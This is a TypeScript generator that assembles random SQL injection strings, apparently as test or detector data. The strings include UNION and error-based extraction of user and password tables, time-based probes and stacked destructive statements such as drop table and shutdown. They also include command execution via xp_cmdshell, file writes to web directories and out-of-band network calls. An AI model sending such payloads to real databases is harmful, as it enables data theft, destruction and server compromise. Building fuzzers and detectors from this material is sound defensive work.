import type { RandomSource } from "./random-source.ts";

const FUNCTIONS = [
  "version()",
  "user()",
  "database()",
  "current_user",
  "@@version",
  "system_user",
  "banner",
  "sqlite_version()",
  "@@hostname",
  "session_user",
  "schema()",
  "pg_backend_pid()",
];
const TABLES = [
  "users",
  "members",
  "admin",
  "accounts",
  "information_schema.tables",
  "information_schema.columns",
  "mysql.user",
  "sysobjects",
  "pg_catalog.pg_tables",
  "sqlite_master",
  "all_tables",
  "dual",
  "v$version",
  "pg_user",
  "customers",
  "orders",
  "login",
  "tbl_user",
  "msysobjects",
];
const COLUMNS = [
  "*",
  "password",
  "username",
  "email",
  "name",
  "id",
  "table_name",
  "column_name",
  "pass",
  "login,password",
  "concat(user,0x3a,pass)",
  "group_concat(table_name)",
  "count(*)",
  "user||':'||pass",
  "top 1 name",
];

function literal(r: RandomSource): string {
  const n = r.int(1, 9999);
  return r.pick([
    `${n}`,
    `${n}`,
    `'${r.name()}'`,
    `"${r.name()}"`,
    "null",
    "true",
    `0x${n.toString(16)}4a`,
  ]);
}

/** Break-outs that go on with an operator in place of AND or OR. */
function operatorBreak(r: RandomSource): string {
  const q = r.pick(["'", "'", "'", '"']);
  const operator = r.pick([
    "like",
    "not like",
    "glob",
    "ilike",
    "rlike",
    "regexp",
    "is not",
    "sounds like",
    "=",
    "!=",
    "<>",
    "=~",
    "~",
    "!~",
    ">=",
    "<",
    "collate",
  ]);
  const gap = r.pick([" ", " ", ""]);
  const isWord = /[a-z]/.test(operator);
  const space = isWord ? " " : gap;
  const left = r.pick(["", "", r.name(), `${r.int(1, 99)}`]);
  return `${left}${q}${space}${operator}${space}${q}${r.pick(["", "%", r.name(), "*", "^a"])}`;
}

/** Calls by themselves that only a database understands. */
function databaseCall(r: RandomSource): string {
  const n = r.int(1, 20);
  return r.pick([
    `extractvalue(${n},concat(0x7e,${r.pick(FUNCTIONS)}))`,
    `updatexml(${n},concat(0x3a,(${select(r)})),${n})`,
    `pg_sleep(${n})`,
    `load_file('/etc/${r.name()}')`,
    `dbms_pipe.receive_message('${r.name()}',${n})`,
    `group_concat(${r.name()})`,
    `chr(${r.int(65, 90)})||chr(${r.int(65, 90)})||chr(${r.int(65, 90)})`,
    `char(${r.int(65, 90)})+char(${r.int(65, 90)})`,
    `benchmark(${n}000000,md5(${n}))`,
    `randomblob(${n}00000000)`,
    `sleep(${n})`,
  ]);
}

/** Arithmetic that a number survives and a comment that ends the statement. */
function arithmetic(r: RandomSource): string {
  const n = r.int(1, 99);
  const sum = r.pick([`${n}-0`, `${n}*1`, `${n + 3}-3`, `${n}/1`, `${n}-false`, `(${n})`]);
  return `${sum}${r.pick(["-- -", "--", " -- ", "#", " or 1", "||0"])}`;
}

function condition(r: RandomSource): string {
  const n = r.int(0, 9999);
  const x = r.name();
  const m = n + r.int(1, 50);
  return r.pick([
    `${n}=${n}`,
    `${n}=${m}`,
    `${n} = ${n}`,
    `'${x}'='${x}`,
    `'${x}'='${x}'`,
    `"${x}"="${x}`,
    `"${x}"="${x}"`,
    `${x}=${x}`,
    `${m}>${n}`,
    `${n}<${m}`,
    `'${x}' like '${x}`,
    `${n} like ${n}`,
    `${n} between 0 and ${m}`,
    `${n} in (${n})`,
    `${n} is not null`,
    "true",
    `${n}`,
    "''=''",
    "''='",
    `not ${n}=${m}`,
    `exists(select ${n})`,
    `exists(select * from ${r.pick(TABLES)})`,
    `${n}!=${m}`,
    `${n}<>${m}`,
    `ascii(substring((${select(r)}),1,1))>${n}`,
    `(${select(r)})=${n}`,
    `length(${r.pick(["database()", "user", "password"])})>${r.int(1, 9)}`,
    `'${x}'>'${x.slice(1)}'`,
    `1 rlike ${n}`,
    `${x} regexp '^a'`,
    `(${n})=(${n})`,
    `char_length(${x})=${n}`,
    `mod(${n},2)=1`,
    `isnull(1/0)`,
    `'a'||'b'='ab'`,
  ]);
}

function select(r: RandomSource): string {
  const columns = r.pick(COLUMNS);
  const table = r.pick(TABLES);
  return r.pick([
    `select ${columns} from ${table}`,
    `select ${columns} from ${table} where ${r.name()}=${literal(r)}`,
    `select ${r.pick(FUNCTIONS)}`,
    `select ${columns} from ${table} limit ${r.int(0, 9)},1`,
    `select ${r.name()} from ${r.name()}`,
    `select ${columns} from ${table} order by ${r.int(1, 9)}`,
    `select ${r.several(["null", "1", "2", "'a'", r.pick(FUNCTIONS)], 1, 8, ",")}`,
    `select distinct ${columns} from ${table}`,
    `select top 1 ${columns} from ${table}`,
    `select load_file('/etc/passwd')`,
    `select ${r.name()} from ${r.name()} where ${r.name()}=${r.name()}`,
  ]);
}

function delay(r: RandomSource): string {
  const n = r.int(1, 20);
  return r.pick([
    `sleep(${n})`,
    `pg_sleep(${n})`,
    `benchmark(${n}000000,md5(1))`,
    `(select ${n} from (select(sleep(${n})))a)`,
    `waitfor delay '0:0:${n}'`,
    `dbms_pipe.receive_message('${r.name()}',${n})`,
    `dbms_lock.sleep(${n})`,
    `if(${condition(r)},sleep(${n}),0)`,
    `(case when ${n}=${n} then pg_sleep(${n}) else null end)`,
    `randomblob(${n}00000000)`,
    `sleep(__TIME__)`,
    `xor(if(now()=sysdate(),sleep(${n}),0))xor`,
    `(select count(*) from generate_series(1,${n}000000))`,
    `utl_inaddr.get_host_address('${r.name()}.com')`,
  ]);
}

function statement(r: RandomSource): string {
  const wait = delay(r);
  const test = `${r.int(1, 99)}=1`;
  const t = r.pick(["users", "members", r.name(), "products", "orders"]);
  return r.pick([
    `drop table ${t}`,
    `drop database ${t}`,
    `delete from ${t}`,
    `delete from ${t} where ${test}`,
    `truncate table ${t}`,
    "shutdown",
    "shutdown with nowait",
    `insert into ${t} values (${r.several(["1", "'a'", "null", "'x'"], 1, 5, ",")})`,
    `insert into ${t}(login,pass) values('${r.name()}','x')`,
    `update ${t} set ${r.pick(["password", "role", "price", "email"])}='${r.name()}'`,
    `update ${t} set a=1 where ${test}`,
    `alter table ${t} drop column ${r.name()}`,
    `exec xp_cmdshell('${r.pick(["dir", "ping 10.0.0.1", "net user"])}')`,
    `exec master..xp_cmdshell 'dir'`,
    `exec sp_configure 'show advanced options',1`,
    `declare @a varchar(99) set @a=0x73656c exec(@a)`,
    `create user ${r.name()} identified by '${r.name()}'`,
    `create table ${t}(a varchar(8000))`,
    `grant all privileges on *.* to '${r.name()}'`,
    `waitfor delay '0:0:${r.int(1, 20)}'`,
    `begin ${wait}; end`,
    `select ${wait}`,
    select(r),
    `copy ${t} from program 'id'`,
    `handler ${t} open`,
    `set @q='${r.name()}';prepare s from @q;execute s`,
    `call ${r.name()}(${r.int(1, 9)})`,
    `exec sp_addlogin '${r.name()}'`,
    `bulk insert ${t} from 'c:\\boot.ini'`,
    `select ${r.name()} into outfile '/var/www/x.php'`,
    `backup database master to disk='\\\\${r.name()}\\a'`,
    `vacuum ${t}`,
    `attach database '/var/www/x.php' as x`,
  ]);
}

function body(r: RandomSource): string {
  const test = condition(r);
  const query = select(r);
  const wait = delay(r);
  const change = statement(r);
  const logic = r.pick(["or", "and", "or", "and", "||", "&&", "xor", "or not"]);
  return r.pick([
    () => `${logic} ${test}`,
    () => `${logic} ${test}`,
    () => `${logic} ${test} ${r.pick(["and", "or"])} ${test}`,
    () => `${logic} ${wait}`,
    () => `${logic} (${query})`,
    () =>
      `union ${r.pick(["", "all ", "distinct "])}select ${r.several(["null", "1", "2", "'a'", r.pick(FUNCTIONS), r.pick(COLUMNS), "concat(0x7e,user())"], 1, 9, ",")}${r.chance(0.5) ? ` from ${r.pick(TABLES)}` : ""}`,
    () => `union ${r.pick(["", "all "])}${query}`,
    () => `order by ${r.int(1, 40)}`,
    () => `group by ${r.several(["1", "a", "name", r.name()], 1, 4, ",")} having ${test}`,
    () => `having ${test}`,
    () => `; ${change}`,
    () => `;${change}`,
    () => `; ${change};`,
    () => `${logic} extractvalue(1,concat(0x7e,(${query})))`,
    () => `${logic} updatexml(1,concat(0x3a,${r.pick(FUNCTIONS)}),1)`,
    () =>
      `${logic} (select 1 from(select count(*),concat((${query}),floor(rand(0)*2))x from information_schema.tables group by x)a)`,
    () => `${logic} 1=convert(int,(${query}))`,
    () => `${logic} cast((${query}) as int)=1`,
    () => `procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
    () => `limit 1,1 into outfile '/tmp/${r.name()}'`,
    () => `where ${test} ${logic} ${test}`,
    () => `like '%${r.name()}%'`,
    () =>
      `|| ${r.pick(["utl_http.request", "utl_inaddr.get_host_name", "ctxsys.drithsx.sn"])}('${r.name()}')`,
    () => `||(${query})||`,
    () => `+(${query})+`,
    () => `is null ${logic} ${test}`,
    () => `in (${query})`,
    () => `rlike (case when ${test} then 1 else 0x28 end)`,
    () => `${logic} json_keys((select convert((${query}) using utf8)))`,
    () => `- ${wait}`,
    () => `*(${wait})`,
  ])();
}

const ENDS = [
  "",
  "",
  "",
  "--",
  "-- ",
  "--+",
  "#",
  "/*",
  "-- -",
  " --",
  ";--",
  ";#",
  ";%00",
  "-- x",
  " -- abc",
  "`",
  ";",
  ") --",
  ")#",
  "/**/--",
  "#x",
  ";-- -",
];

function payload(r: RandomSource): string {
  const value = r.pick([
    "",
    "",
    "1",
    "-1",
    "x",
    "admin",
    `${r.int(1, 9999)}`,
    r.name(),
    "%",
    "test",
    "-9999",
    "1%",
    "user@example.com",
    "abc",
  ]);
  const quote = r.pick([
    "'",
    "'",
    "'",
    '"',
    "",
    "",
    "`",
    "')",
    "'))",
    '")',
    ")",
    "))",
    "';",
    "' ",
    '" ',
    "\\'",
    "%'",
    "']",
    "'\"",
    "''",
  ]);
  const gap = r.pick([" ", " ", " ", "", "  ", "/**/", "+", "\t", "\n", "/*x*/", " "]);
  return `${value}${quote}${gap}${body(r)}${r.pick([" ", ""])}${r.pick(ENDS)}`;
}

/** Short and odd forms that no grammar above gives. */
function oddity(r: RandomSource): string {
  const query = select(r);
  const wait = delay(r);
  const change = statement(r);
  const x = r.name();
  const n = r.int(1, 99);
  return r.pick([
    operatorBreak(r),
    operatorBreak(r),
    operatorBreak(r),
    databaseCall(r),
    databaseCall(r),
    databaseCall(r),
    arithmetic(r),
    arithmetic(r),
    `${x}'--`,
    `${x}' --`,
    `${x}'#`,
    `${x}' #`,
    `${x}'/*`,
    `' or '`,
    `'or''='`,
    `'='`,
    `'-'`,
    `' '`,
    `'&'`,
    `'^'`,
    `'*'`,
    `' or ''-'`,
    `' or ''*'`,
    `" or ""-"`,
    `'=0--+`,
    `'+or+'1'='1`,
    `'||'${n}`,
    `'||'${x}'||'`,
    `'like'`,
    `' or 0=0 #`,
    `1'1`,
    `1 exec sp_ (or exec xp_)`,
    `or ${n}=${n}`,
    `or ${n}=${n}--`,
    `and ${n}=${n + 1}`,
    `or ${x}=${x}`,
    `or '${x}'='${x}'`,
    `or 1`,
    `' or 1`,
    `1 or true`,
    `${n} or ${n}=${n}`,
    `1or1=1`,
    `1'or'1'='1`,
    `'or'${n}'='${n}`,
    `"or"${n}"="${n}`,
    `1e0union select 1`,
    `1.or-${x}`,
    `0 or 1`,
    `!(1)or 1`,
    `-1 or 1#`,
    `${n};${change}`,
    `'; ${change} --`,
    `'); ${change}; --`,
    change,
    change,
    query,
    query,
    `(${query})`,
    wait,
    `'${wait}`,
    `1-${wait}`,
    `1;${wait}--`,
    `';${wait}--`,
    `,(${query})`,
    `${n} and ${wait}`,
    `@@version`,
    `@variable`,
    `select @@version`,
    `'; begin declare @v nvarchar(255) end--`,
    `%27%20or%201=1`,
    `${n}/0`,
    `${n} div 0`,
    `'+convert(int,@@version)+'`,
    `"+(select 1)+"`,
    `{ts '1=1'} or 1`,
    `' or {d '2020'} is not null`,
    `1) or sleep(${n})#`,
    `1))union select(1)`,
    `'union(select(1),(2))#`,
    `1 union(select 1 from ${x})`,
    `')or('${x}')=('${x}`,
    `") or ("${x}"="${x}`,
    `\\'; select 1`,
    `${x}' and substr(password,1,1)='a`,
    `${n}' order by ${n}--`,
    `1 order by ${n}`,
    `1 group by 1,2,3--`,
    `x' and email is null; --`,
    `x' and 1=(select count(*) from ${x}); --`,
    `x'; drop table ${x}; --`,
    `${x}' or exists(select 1) and ''='`,
    `1 and 1=1`,
    `1' and 1=0 union all select '${x}'`,
    `'%20--`,
    `1&&1=1`,
    `1||1=1`,
    `'||1=1#`,
    `'&&sleep(1)&&'1`,
    `"||pg_sleep(10)--`,
    `case when 1=1 then ${n} else 1/0 end`,
    `iif(1=1,1,0)`,
    `insert into ${x}(a) values (1)`,
    `show tables;`,
    `show databases; union select 1`,
    `desc ${x}; select 1`,
    `1 procedure analyse()`,
    `1;select pg_sleep(5)`,
    `; if (1=1) waitfor delay '0:0:5'`,
    `'sqlattempt1`,
    `' group by userid having 1=1--`,
    `bfilename('a','b')`,
  ]);
}

/** A made-up SQL injection attempt. */
export function sqlPayload(r: RandomSource): string {
  const text = r.chance(0.6) ? payload(r) : oddity(r);
  return r.chance(0.15)
    ? text.replaceAll(" ", r.pick(["/**/", "+", "\t", "%20", "/*!*/", "\n", "%0a", "\u00a0"]))
    : text;
}
